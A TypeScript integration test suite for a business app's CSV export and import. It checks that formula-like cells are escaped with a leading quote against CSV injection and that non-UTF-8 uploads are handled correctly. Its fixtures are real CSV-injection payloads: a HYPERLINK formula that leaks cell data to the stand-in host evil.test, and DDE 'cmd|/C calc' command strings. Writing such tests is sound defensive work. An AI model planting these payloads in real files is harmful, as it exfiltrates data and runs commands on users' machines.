// What a spreadsheet does with our CSV files, and what our importers do with a spreadsheet's: cells
// that a spreadsheet would run as a formula (=, +, -, @, tab, CR first; OWASP "CSV Injection") are
// exported with a leading single quote and read back unchanged by the imports; a file that is not
// UTF-8 is refused naming the row and column, unless the upload names its `encoding`.
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { sql } from 'drizzle-orm';
import { selectRows } from '../../src/db/client';
import { parseGlobalId } from '../../src/graph/ids';
import { postMultipart } from '../helpers/flows';
import { CREATE_CUSTOMER, customerInput, readReference } from '../helpers/reference';
import { createTestOrganisation, startTestServer, type TestOrganisation, type TestServer } from '../helpers/server';
import { unzip } from '../helpers/zip';

let server: TestServer;
let org: TestOrganisation;
let base: string;
let customerId: string;
let copyId: string;

const FORMULA_NAME = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")';
/** Work-address lines as stored: ones a spreadsheet would run, and values that only look alike. */
const LINES = ['@SUM(1+1)', '+cmd|/C calc!A0', "-2+3+cmd|'/C calc'!A0", "'=already quoted", '-5', 'Plain Road'];
/** The same lines as a CSV cell that imports as them: a quote before a formula character is taken off. */
const typed = (line: string) => (line.startsWith("'") ? `'${line}` : line);

async function exportOf(id: string): Promise<Record<string, string>> {
  const res = await fetch(`${base}/exports/customers/${id}.zip`, { headers: { authorization: `Bearer ${org.adminToken}` } });
  expect(res.status).toBe(200);
  return unzip(Buffer.from(await res.arrayBuffer()));
}

const upload = (route: string, fields: Record<string, string>, file: string | Buffer) =>
  postMultipart(server, route, fields, { bytes: file, name: 'file.csv', type: 'text/csv' }, { token: org.adminToken });

async function workAddressLines(customer: string): Promise<string[]> {
  const rows = await selectRows<{ line1: string; occupier_phone: string | null }>(
    server.database.db,
    sql`select line1, occupier_phone from work_addresses where customer_id = ${parseGlobalId(customer)!.id}`,
  );
  return rows.map((r) => r.line1).sort();
}

beforeAll(async () => {
  server = await startTestServer();
  base = server.url.replace(/\/graphql$/, '');
  org = await createTestOrganisation(server);
  const ref = await readReference(server, org.adminToken);
  const created = await server.graphql(CREATE_CUSTOMER, { input: customerInput(ref, { name: FORMULA_NAME }) }, org.adminToken);
  expect(created.data!.createCustomer.userErrors).toEqual([]);
  customerId = created.data!.createCustomer.customer.id;
  const copy = await server.graphql(CREATE_CUSTOMER, { input: customerInput(ref, { name: 'Copy Ltd' }) }, org.adminToken);
  copyId = copy.data!.createCustomer.customer.id;
  // Imported as typed: a cell without our quote is taken as it is.
  const csv = stringify([['Line', 'Phone'], ...LINES.map((line, i) => [typed(line), i === 0 ? '+447700900001' : ''])]);
  const imported = await upload('/imports/work-addresses', { customerId, mapping: JSON.stringify({ Line: 'line1', Phone: 'occupierPhone' }) }, csv);
  expect(imported.body.importJob!.status).toBe('SUCCEEDED');
});
afterAll(() => server.close());

describe('export', () => {
  it('writes cells a spreadsheet would run as formulas with a leading quote, and numbers as they are', async () => {
    const files = await exportOf(customerId);
    const [customer] = parse(files['customers.csv']!, { columns: true }) as Array<Record<string, string>>;
    expect(customer!.name).toBe(`'${FORMULA_NAME}`);
    expect(customer!.creditorDays).toBe('30');
    const rows = parse(files['work_addresses.csv']!, { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((r) => r.line1).sort()).toEqual(
      ["'+cmd|/C calc!A0", "'-2+3+cmd|'/C calc'!A0", "'@SUM(1+1)", "''=already quoted", '-5', 'Plain Road'].sort(),
    );
    expect(rows.find((r) => r.line1 === "'@SUM(1+1)")!.occupierPhone).toBe("'+447700900001");
    // No cell of any CSV starts a formula (a plain number is data, not a formula).
    for (const [name, text] of Object.entries(files)) {
      if (!name.endsWith('.csv')) continue;
      for (const row of parse(text) as string[][]) {
        for (const cell of row) if (/^[=+\-@\t\r]/.test(cell)) expect([name, cell, /^-?\d+(\.\d+)?$/.test(cell)]).toEqual([name, cell, true]);
      }
    }
  });
});

describe('import of an exported file', () => {
  it('reads the quoted cells back to the original values: work addresses, the exported file as it is', async () => {
    const files = await exportOf(customerId);
    const mapping = JSON.stringify({ line1: 'line1', occupierPhone: 'occupierPhone' });
    const res = await upload('/imports/work-addresses', { customerId: copyId, mapping }, files['work_addresses.csv']!);
    expect(res.body.importJob).toMatchObject({ status: 'SUCCEEDED', rowsImported: LINES.length });
    expect(await workAddressLines(copyId)).toEqual([...LINES].sort());
    const [phone] = await selectRows<{ occupier_phone: string }>(
      server.database.db,
      sql`select occupier_phone from work_addresses where customer_id = ${parseGlobalId(copyId)!.id} and line1 = '@SUM(1+1)'`,
    );
    expect(phone!.occupier_phone).toBe('+447700900001');
  });

  it('reads the quoted customer name back unchanged', async () => {
    const files = await exportOf(customerId);
    const [customer] = parse(files['customers.csv']!, { columns: true }) as Array<Record<string, string>>;
    const [address] = parse(files['addresses.csv']!, { columns: true }) as Array<Record<string, string>>;
    // The exported cells, in a file with the columns a customer import needs.
    const csv = stringify([
      ['name', 'Type', 'line1', 'postcode'],
      [customer!.name, 'Company', address!.line1, address!.postcode],
    ]);
    const res = await upload('/imports/customers', { mapping: JSON.stringify({ name: 'name', Type: 'type', line1: 'line1', postcode: 'postcode' }) }, csv);
    expect(res.body.importJob).toMatchObject({ status: 'SUCCEEDED', rowsImported: 1 });
    const names = await selectRows<{ name: string }>(server.database.db, sql`select name from customers where name like '%HYPERLINK%'`);
    expect(names.map((n) => n.name)).toEqual([FORMULA_NAME, FORMULA_NAME]);
  });
});

describe('character encoding', () => {
  const MAPPING = JSON.stringify({ Name: 'name', Type: 'type', 'Address 1': 'line1', 'Post Code': 'postcode' });
  const latin1 = (text: string) => Buffer.from(text, 'latin1');

  it('refuses a file that is not UTF-8, naming the row and the column, and imports nothing', async () => {
    const before = await selectRows<{ n: number }>(server.database.db, sql`select count(*)::int as n from customers`);
    const file = latin1('Name,Type,Address 1,Post Code\nPlain Ltd,Company,1 Road,BS1 1AA\nCafé Crème Ltd,Company,2 Road,BS1 1AB\n');
    const res = await upload('/imports/customers', { mapping: MAPPING, mode: 'ALL_OR_NOTHING' }, file);
    expect(res.body.importJob).toMatchObject({ status: 'FAILED', rowsImported: 0 });
    expect(res.body.importJob!.failureMessage).toMatch(/row 2, column "Name".*not valid UTF-8.*encoding/);
    const after = await selectRows<{ n: number }>(server.database.db, sql`select count(*)::int as n from customers`);
    expect(after[0]!.n).toBe(before[0]!.n);
  });

  it('refuses a header that is not UTF-8 before any job exists', async () => {
    const res = await upload('/imports/customers', { mapping: MAPPING }, latin1('Name,Type,Address 1,Post Code,Société\nX,Company,1 Road,BS1 1AA,y\n'));
    expect(res.status).toBe(400);
    expect(res.body.errors![0]!.message).toMatch(/header.*column 5.*not valid UTF-8/);
  });

  it('imports the same file with encoding windows-1252 (or latin1), and a UTF-8 file with a BOM as it is', async () => {
    const file = latin1('Name,Type,Address 1,Post Code\nCafé Crème Ltd,Company,2 Road,BS1 1AB\n');
    const res = await upload('/imports/customers', { mapping: MAPPING, encoding: 'windows-1252' }, file);
    expect(res.body.importJob).toMatchObject({ status: 'SUCCEEDED', rowsImported: 1 });
    const again = await upload(
      '/imports/customers',
      { mapping: MAPPING, encoding: 'latin1' },
      latin1('Name,Type,Address 1,Post Code\nNaïve Ltd,Company,3 Road,BS1 1AC\n'),
    );
    expect(again.body.importJob).toMatchObject({ status: 'SUCCEEDED', rowsImported: 1 });
    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('Name,Type,Address 1,Post Code\nZoë Ltd,Company,4 Road,BS1 1AD\n', 'utf8')]);
    const utf8 = await upload('/imports/customers', { mapping: MAPPING }, bom);
    expect(utf8.body.importJob).toMatchObject({ status: 'SUCCEEDED', rowsImported: 1 });
    const names = await selectRows<{ name: string }>(
      server.database.db,
      sql`select name from customers where name in ('Café Crème Ltd', 'Naïve Ltd', 'Zoë Ltd') order by name`,
    );
    expect(names.map((n) => n.name)).toEqual(['Café Crème Ltd', 'Naïve Ltd', 'Zoë Ltd']);
  });

  it('refuses an encoding it does not know, naming the field', async () => {
    const res = await upload('/imports/customers', { mapping: MAPPING, encoding: 'klingon' }, 'Name\n');
    expect(res.status).toBe(400);
    expect(res.body.errors![0]!.extensions).toMatchObject({ code: 'INVALID', field: ['encoding'] });
  });
});
